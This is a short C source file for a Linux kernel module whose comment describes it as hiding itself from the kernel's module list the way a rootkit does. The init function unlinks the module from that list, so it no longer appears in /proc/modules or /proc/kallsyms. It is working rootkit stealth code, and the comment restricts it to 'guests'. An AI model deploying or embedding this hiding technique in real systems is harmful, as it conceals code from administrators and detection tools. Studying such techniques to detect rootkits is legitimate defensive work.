/* hide.c: a kernel module that takes itself out of the kernel's list of modules, as a rootkit does,
 * and with it out of /proc/modules and /proc/kallsyms; its folder in /sys/module stays. For guests
 * alone. */
#include <linux/list.h>
#include <linux/module.h>

static int __init hide_init(void)
{
    list_del_rcu(&THIS_MODULE->list);
    return 0;
}

module_init(hide_init);
MODULE_LICENSE("GPL");
